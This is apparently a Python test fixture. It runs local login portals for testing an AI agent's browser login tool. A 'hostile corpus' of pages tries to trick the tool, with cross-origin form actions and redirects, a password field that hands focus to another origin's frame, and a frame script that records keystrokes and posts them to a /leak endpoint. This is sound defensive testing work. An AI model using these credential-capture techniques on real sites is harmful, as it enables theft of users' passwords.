"""Local login portals served by the test suite on loopback ports.

Each portal is a real HTTP server with a real form: one that accepts, one that
refuses, one slower than the login budget, one whose post-submit challenge
speaks Browserbase's console protocol, one with a challenge before the submit,
several selector layouts, and a Steel captcha status API server. The hostile corpus
(``HOSTILE``) is the pages that try to make browser_login answer wrongly or leave the credential
where the agent can read it: a table-row form that refuses in place, show-password toggles (one
changes the type, one swaps in a clone), a GET form, a cross-origin ``action`` and ``formaction``,
a Django-style 200 re-render, a Spring-style redirect to ``/login?error``, a welcome page with an
unrelated alert, and a second step that hides the still-filled password.
"""

from __future__ import annotations

import html
import json
import secrets
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs

USERNAME = "portal.user@example.com"
PASSWORD = "Correct-Horse-9-Battery"

FORMS = {
    # Conventional names and a submit button.
    "standard": """<form method=post action="{action}"><label>Email <input name=username autocomplete=username></label>
<label>Password <input type=password name=password></label><button type=submit>Sign in</button></form>""",
    # Only ids, an email field, and an input[type=submit].
    "ids": """<form method=post action="{action}"><input id=login_email type=email name=a>
<input id=pw type=password name=b><input type=submit value=Go></form>""",
    # No submit control at all: Enter in the password field submits.
    "enter": """<form method=post action="{action}"><input name=user_name>
<input type=password name=secret></form>""",
    # Custom fields that need explicit selectors.
    "custom": """<form method=post action="{action}"><input data-q=who name=x1><input data-q=key type=password name=x2>
<a href=# data-q=go onclick="this.closest('form').submit();return false">Continue</a></form>""",
}
FIELDS = {"standard": ("username", "password"), "ids": ("a", "b"), "enter": ("user_name", "secret"), "custom": ("x1", "x2")}


@dataclass
class Portal:
    origin: str = ""
    posts: list[dict[str, str]] = field(default_factory=list)
    slow_seconds: float = 30.0
    solve_ms: int = 1500
    steel_solving_until: float = 0.0
    # The session cookies a successful sign-in handed out (the browser keeps them).
    sessions: set[str] = field(default_factory=set)
    # Another origin that the attack pages frame or redirect to.
    away: str = ""
    leaks: list[str] = field(default_factory=list)
    # Every GET request's path and query, as the server received it.
    gets: list[str] = field(default_factory=list)


def _page(body: str, title: str = "Portal", script: str = "") -> bytes:
    return f"<!doctype html><title>{title}</title><body>{body}{script}</body>".encode()

# A script that answers the form in place (no navigation): ``{ok}`` on success, the refusal otherwise.
IN_PLACE = """<script>
document.querySelector('form').addEventListener('submit', async (event) => {{
  event.preventDefault();
  const body = new URLSearchParams(new FormData(event.target));
  const response = await fetch(location.pathname + '-api', {{method: 'POST', body}});
  if (response.ok) {{ {ok} }} else {{ {refused} }}
}});
</script>"""
LOGIN_ERROR = "Invalid username or password."


def hostile_page(path: str, away: str) -> str | None:
    """The hostile corpus's login pages (GET), or None."""
    if path == "/table":
        # A table-row form whose script refuses in place, the alert inside the form.
        form = """<form method=post action="/table"><table>
<tr><td>Username:</td><td><input name=username></td></tr>
<tr><td>Password:</td><td><input type=password name=password></td></tr>
<tr><td colspan=2><button type=submit>Sign in</button><div id=msg role=alert></div></td></tr></table></form>"""
        script = IN_PLACE.format(ok="document.body.innerHTML = '<h1>Welcome back</h1>';",
                                 refused=f"document.getElementById('msg').textContent = {json.dumps(LOGIN_ERROR)};")
        return form + script
    if path == "/toggle":
        # A show-password button: it changes the field's type, nothing is submitted.
        return """<form method=post action="/login/standard"><input name=username autocomplete=username>
<input type=password name=password id=pw><button type=button id=eye
onclick="const p = document.getElementById('pw'); p.type = p.type === 'password' ? 'text' : 'password'">Show</button>
<button type=submit>Sign in</button></form>"""
    if path == "/clone":
        # A show-password button that swaps in a text clone of the field (the value copied).
        return """<form method=post action="/login/standard"><input name=username autocomplete=username>
<span id=box><input type=password name=password id=pw></span><button type=button id=eye onclick="
const old = document.getElementById('pw'); const copy = document.createElement('input');
copy.type = 'text'; copy.name = 'password'; copy.id = 'pw'; copy.value = old.value; old.replaceWith(copy);">Show</button>
<button type=submit>Sign in</button></form>"""
    if path == "/get-form":
        return """<form method=get action="/login/standard"><input name=username autocomplete=username>
<input type=password name=password><button type=submit>Sign in</button></form>"""
    if path == "/cross-action":
        return f"""<form method=post action="{away}/login/standard"><input name=username autocomplete=username>
<input type=password name=password><button type=submit>Sign in</button></form>"""
    if path == "/cross-formaction":
        return f"""<form method=post action="/login/standard"><input name=username autocomplete=username>
<input type=password name=password><button type=submit formaction="{away}/login/standard">Sign in</button></form>"""
    if path in ("/django", "/spring", "/messages-login"):
        return f"""<form method=post action="{path}"><input name=username autocomplete=username>
<input type=password name=password><button type=submit>Sign in</button></form>"""
    if path == "/spring-login":
        # Spring Security's login page after /login?error: the alert inside the form.
        return """<form method=post action="/spring"><div class="alert alert-danger" role="alert">Bad credentials</div>
<input name=username autocomplete=username><input type=password name=password><button type=submit>Sign in</button></form>"""
    if path == "/messages":
        return """<h1>Welcome</h1><div role="alert">You have 3 new messages</div><p>Your inbox.</p>"""
    if path == "/mfa":
        # The password step hides itself (still filled) and shows a one-time-code field: no navigation.
        script = IN_PLACE.format(
            ok="document.getElementById('step1').style.display = 'none'; document.getElementById('step2').hidden = false;",
            refused=f"document.getElementById('msg').textContent = {json.dumps(LOGIN_ERROR)};",
        )
        return """<form method=post action="/mfa"><div id=msg role=alert></div><div id=step1>
<input name=username autocomplete=username><input type=password name=password><button type=submit>Next</button></div>
<div id=step2 hidden><label>Code <input name=code autocomplete=one-time-code></label></div></form>""" + script
    return None


def django_rerender(username: str) -> str:
    """Django's LoginView after a refused POST: 200, the same form again, the fields ``aria-invalid``
    and the username echoed in its ``value`` (the message is outside the form, tied to nothing)."""
    return f"""<p class="note">Please enter a correct username and password.</p>
<form method=post action="/django"><input name=username autocomplete=username aria-invalid="true" value="{html.escape(username)}">
<input type=password name=password aria-invalid="true"><button type=submit>Sign in</button></form>"""


def _handler(portal: Portal) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            return None

        def _send(self, body: bytes, status: int = 200, content_type: str = "text/html", headers: dict[str, str] | None = None) -> None:
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            for name, value in (headers or {}).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def _form(self, layout: str, error: str = "", script: str = "") -> bytes:
            alert = f'<div role="alert" class="error">{error}</div>' if error else ""
            return _page(alert + FORMS[layout].format(action=self.path.split("?")[0]), "Sign in", script)

        def do_GET(self) -> None:  # noqa: N802
            portal.gets.append(self.path)
            path = self.path.split("?")[0]
            hostile = hostile_page(path, portal.away)
            if hostile is not None:
                self._send(_page(hostile, "Sign in"))
            elif path == "/welcome":
                self._send(_page("<h1>Welcome back</h1><p>You are signed in.</p>", "Home"))
            elif path == "/account":
                # Only a browser holding a session cookie of a successful sign-in sees the account.
                cookies = dict(c.strip().split("=", 1) for c in self.headers.get("Cookie", "").split(";") if "=" in c)
                if cookies.get("portal_session") in portal.sessions:
                    self._send(_page("<h1>Your account</h1><p>Still signed in.</p>", "Account"))
                else:
                    self._send(b"", 303, headers={"Location": "/login/standard"})
            elif path.startswith("/login/"):
                self._send(self._form(path.removeprefix("/login/")))
            elif path in ("/refuse", "/slow", "/bb-after", "/steel"):
                self._send(self._form("standard"))
            elif path == "/redirect-away":
                self._send(b"", 302, headers={"Location": portal.away})
            elif path == "/frame-away":
                self._send(_page(f'<h1>Framed</h1><iframe src="{portal.away}"></iframe>'))
            elif path == "/socket-away":
                target = portal.away.replace("http://", "ws://")
                script = f"""<script>
const socket = new WebSocket({json.dumps(target)});
socket.onerror = socket.onclose = () => {{ document.title = 'closed'; }};
</script>"""
                self._send(_page("<h1>Socket</h1>", "Socket", script))
            elif path == "/worker-away":
                script = """<script>
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = 'registered'; });
</script>"""
                self._send(_page("<h1>Worker</h1>", "Worker", script))
            elif path == "/worker.js":
                # The service worker fetches the other address itself, then says so to its own origin.
                script = f"""self.addEventListener('activate', (event) => {{
  event.waitUntil(fetch({json.dumps(portal.away + "/from-worker")}, {{mode: 'no-cors'}})
    .then(() => 'fetched', () => 'failed')
    .then((outcome) => fetch('/worker-done?' + outcome)));
}});"""
                self._send(script.encode(), content_type="text/javascript")
            elif path == "/worker-done":
                portal.posts.append({"path": self.path})
                self._send(b"ok", content_type="text/plain")
            elif path == "/framed":
                # The login form of another origin inside a frame of this one.
                self._send(_page(f'<h1>Sign in</h1><iframe src="{portal.away}/login/standard" width=600 height=300></iframe>'))
            elif path == "/focus-steal":
                # A form whose password field hands focus to another origin's frame.
                script = """<script>
const frame = document.querySelector('iframe');
document.querySelector('input[type=password]').addEventListener('focus', () => frame.focus());
</script>"""
                self._send(self._form("standard", script=f'<iframe src="{portal.away}/keys"></iframe>' + script))
            elif path == "/keys":
                # Records whatever is typed into it.
                script = """<script>
const box = document.querySelector('input');
window.addEventListener('focus', () => box.focus());
box.addEventListener('input', () => fetch('/leak', {method: 'POST', body: box.value}));
</script>"""
                self._send(_page("<input autofocus>", "Frame", script))
            elif path == "/otp":
                self._send(_page('<form method=post action="/otp"><input name=otp autocomplete=one-time-code>'
                                 '<button type=submit>Verify</button></form>', "Verify"))
            elif path in ("/otp-same", "/otp-away"):
                self._send(self._form("standard"))
            elif path == "/sandboxed":
                self._send(self._form("standard"), headers={"Content-Security-Policy": "sandbox allow-forms allow-scripts"})
            elif path in ("/js", "/js-slow"):
                # A script-driven form: no navigation, the page answers in place (/js-slow: after slow_seconds).
                script = """<script>
document.querySelector('form').addEventListener('submit', async (event) => {
  event.preventDefault();
  const body = new URLSearchParams(new FormData(event.target));
  const response = await fetch(location.pathname + '-api', {method: 'POST', body});
  if (response.ok) { document.body.innerHTML = '<h1>Welcome back</h1>'; }
  else { document.getElementById('msg').textContent = 'Invalid username or password.'; }
});
</script>"""
                self._send(_page('<div id=msg role=alert></div>' + FORMS["standard"].format(action=path), "Sign in", script))
            elif path == "/bb-before":
                # The managed browser is solving a challenge on the login page itself, and never finishes.
                self._send(self._form("standard", script="<script>console.log('browserbase-solving-started')</script>"))
            else:
                self._send(b"not found", 404, "text/plain")

        def do_POST(self) -> None:  # noqa: N802
            path = self.path.split("?")[0]
            length = int(self.headers.get("Content-Length", "0"))
            raw = self.rfile.read(length).decode()
            if path == "/leak":
                portal.leaks.append(raw)
                self._send(b"{}", content_type="application/json")
                return
            fields = {k: v[0] for k, v in parse_qs(raw).items()}
            portal.posts.append({"path": path, **fields})
            if path.startswith("/login/"):
                layout = path.removeprefix("/login/")
                user_field, password_field = FIELDS[layout]
                ok = fields.get(user_field) == USERNAME and fields.get(password_field) == PASSWORD
                if ok:
                    token = secrets.token_urlsafe(16)
                    portal.sessions.add(token)
                    cookie = f"portal_session={token}; Path=/; HttpOnly; SameSite=Lax"
                    self._send(b"", 303, headers={"Location": "/welcome", "Set-Cookie": cookie})
                else:
                    self._send(self._form(layout, "Invalid username or password."))
            elif path == "/refuse":
                self._send(self._form("standard", "Invalid username or password."))
            elif path in ("/table-api", "/mfa-api"):
                ok = path == "/mfa-api" and fields.get("username") == USERNAME and fields.get("password") == PASSWORD
                self._send(b"{}" if ok else b'{"error":"invalid"}', 200 if ok else 401, "application/json")
            elif path == "/django":
                self._send(_page(django_rerender(fields.get("username", "")), "Log in"))
            elif path == "/spring":
                self._send(b"", 302, headers={"Location": "/spring-login?error"})
            elif path == "/messages-login":
                ok = fields.get("username") == USERNAME and fields.get("password") == PASSWORD
                self._send(b"", 303, headers={"Location": "/messages" if ok else "/messages-login"})
            elif path in ("/otp-same", "/otp-away"):
                # A password accepted, then a one-time code asked for: here, or after a redirect elsewhere.
                target = "/otp" if path == "/otp-same" else f"{portal.away}/otp"
                self._send(b"", 303, headers={"Location": target})
            elif path == "/otp":
                self._send(b"", 303, headers={"Location": "/welcome"})

            elif path in ("/js-api", "/js-slow-api"):
                if path == "/js-slow-api":
                    time.sleep(portal.slow_seconds)
                ok = fields.get("username") == USERNAME and fields.get("password") == PASSWORD
                self._send(b"{}" if ok else b'{"error":"invalid"}', 200 if ok else 401, "application/json")
            elif path == "/slow":
                time.sleep(portal.slow_seconds)
                self._send(b"", 303, headers={"Location": "/welcome"})
            elif path == "/bb-after":
                script = (
                    "<script>console.log('browserbase-solving-started');"
                    f"setTimeout(() => {{ console.log('browserbase-solving-finished'); location.href = '/welcome'; }}, {portal.solve_ms});"
                    "</script>"
                )
                self._send(_page("<h1>Checking your browser…</h1><p>Please wait.</p>", "Challenge", script))
            elif path == "/steel":
                portal.steel_solving_until = time.monotonic() + portal.solve_ms / 1000
                script = f"<script>setTimeout(() => {{ location.href = '/welcome'; }}, {portal.solve_ms});</script>"
                self._send(_page("<h1>Verifying…</h1>", "Challenge", script))
            else:
                self._send(b"not found", 404, "text/plain")

    return Handler


@contextmanager
def serve_portal() -> Iterator[Portal]:
    portal = Portal()
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(portal))
    server.daemon_threads = True
    portal.origin = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield portal
    finally:
        server.shutdown()
        server.server_close()
